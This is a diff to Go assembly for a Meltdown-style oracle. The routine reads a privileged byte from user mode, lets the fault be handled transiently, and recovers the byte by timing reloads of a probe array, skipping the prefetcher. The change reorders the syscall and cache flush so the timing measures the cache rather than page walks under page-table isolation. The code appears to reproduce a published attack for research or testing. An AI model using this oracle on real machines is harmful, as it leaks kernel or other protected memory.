@@ -418,9 +418,11 @@ sample:
 // counters (quadwords), R8 = the threshold (a load that takes at most
 // that many TSC ticks is a hit), R9 = the touch call's number (0: none)
 // in its low 32 bits, and bit 32 set where the CPU has no RDTSCP. Each
-// attempt flushes the probe array, makes the touch call (which brings the
-// secret's line into the cache), reads the byte from ring 3, which
-// faults, and, transiently, loads the probe line the byte selects (a
+// attempt makes the touch call (which brings the secret's line into the
+// cache), flushes the probe array (after the call, whose CR3 writes under
+// isolation without PCIDs empty the TLB: CLFLUSH walks the tables again,
+// so that the reload times the cache, not page walks), reads the byte
+// from ring 3, which faults, and, transiently, loads the probe line the byte selects (a
 // transient 0, which a suppressed read gives, is read again: the paper's
 // retry); then it times a load of every line, in an order that defeats
 // the prefetcher (line 167*k+13 mod 256 at step k), and counts the hits.
@@ -436,6 +438,11 @@ TEXT ·userOracle(SB),NOSPLIT|NOFRAME,$0
 	MOVQ	DX, R13			// attempts left
 	MOVQ	R10, R14		// the counters (R10: the line step from here on)
 attempt:
+	MOVL	R9, AX
+	TESTL	AX, AX
+	JEQ	flushes
+	SYSCALL
+flushes:
 	XORL	CX, CX
 flush:
 	MOVQ	CX, AX
@@ -445,11 +452,6 @@ flush:
 	CMPQ	CX, $const_OracleLines
 	JNE	flush
 	MFENCE
-	MOVL	R9, AX
-	TESTL	AX, AX
-	JEQ	read
-	SYSCALL
-read:
 	MOVL	$1, R15
 retry:
 	MOVBQZX	(BX), AX		// faults: the rest is transient
